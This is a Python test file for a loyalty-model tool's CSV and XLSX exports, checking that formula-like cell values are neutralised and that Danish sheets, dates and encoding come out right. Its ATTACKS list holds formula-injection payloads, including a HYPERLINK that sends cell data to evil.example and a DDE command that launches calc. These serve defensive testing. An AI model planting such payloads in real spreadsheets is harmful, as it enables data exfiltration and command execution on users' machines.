"""CSV and XLSX exports: what a team opens in Excel must never run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from loyalty_model.assessment.scoring import Assessment, assess
from loyalty_model.i18n import t
from loyalty_model.model import Model
from loyalty_model.takeaways.exports import actions_csv, neutralise, results_csv, results_xlsx
from loyalty_model.workshop import sample

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "+1+2", "-2+3",
           "@SUM(1,2)", "\t=1+1", "=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def assessment(model: Model) -> Assessment:
    return assess(sample.sample_ratings(), sample.sample_kpis(model).frame, model)


def plan_with(texts: list[str]) -> pd.DataFrame:
    return pd.DataFrame([{"action": text, "layer": "delivery", "owner": text,
                          "due_date": "2026-12-01"} for text in texts])


def workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("attack", ATTACKS)
def test_neutralise_prefixes_formula_starts(attack: str) -> None:
    assert neutralise(attack) == "'" + attack
    assert neutralise("Call the customer") == "Call the customer"
    assert neutralise(42) == 42


def test_action_plan_csv_neutralises_formulas(model: Model) -> None:
    content = actions_csv(plan_with(ATTACKS), model, "en").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0] == [t("actions.col_action", "en"), t("actions.col_layer", "en"),
                       t("actions.col_owner", "en"), t("actions.col_due", "en")]
    for row, attack in zip(rows[1:], ATTACKS, strict=True):
        assert row[0] == "'" + attack and row[2] == "'" + attack


def test_xlsx_neutralises_formulas_and_stores_only_strings(model: Model,
                                                           assessment: Assessment) -> None:
    book = workbook(results_xlsx(assessment, model, "en", plan_with(ATTACKS)))
    sheet = book[t("xlsx.sheet_actions", "en")]
    actions = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert actions == ["'" + attack for attack in ATTACKS]
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@"))


def test_xlsx_has_results_plan_statements_and_kpis_in_danish(model: Model,
                                                             assessment: Assessment) -> None:
    book = workbook(results_xlsx(assessment, model, "da", plan_with(["Ring til kunden"])))
    assert book.sheetnames == ["Resultater", "Handlingsplan", "Udsagn", "Nøgletal"]
    results = book["Resultater"]
    header = [c.value for c in results[1]]
    assert header[:2] == [t("export.priority", "da"), t("export.layer", "da")]
    assert results.max_row == 1 + len(model.layers)
    assert results["A2"].value == 1  # numbers stay numbers, sorted by priority
    plan = book["Handlingsplan"]
    assert plan["B2"].value == model.layer("delivery").name("da")
    assert plan["D2"].value == datetime(2026, 12, 1)  # a real date, shown as 01.12.2026
    assert plan["D2"].number_format == "dd\\.mm\\.yyyy"
    assert book["Udsagn"].max_row == 1 + len(model.statements)
    assert book["Nøgletal"].max_row == 1 + len(assessment.kpis)


def test_results_csv_is_excel_friendly_utf8(model: Model, assessment: Assessment) -> None:
    content = results_csv(assessment, model, "da")
    assert content.startswith(b"\xef\xbb\xbf")  # BOM: Danish Excel shows æ ø å
    text = content.decode("utf-8-sig")
    assert model.layer("fault_correction").name("da") in text


def test_control_characters_do_not_break_the_workbook(model: Model,
                                                      assessment: Assessment) -> None:
    book = workbook(results_xlsx(assessment, model, "en", plan_with(["Bell\x07 and\x00 null"])))
    assert book[t("xlsx.sheet_actions", "en")]["A2"].value == "Bell and null"
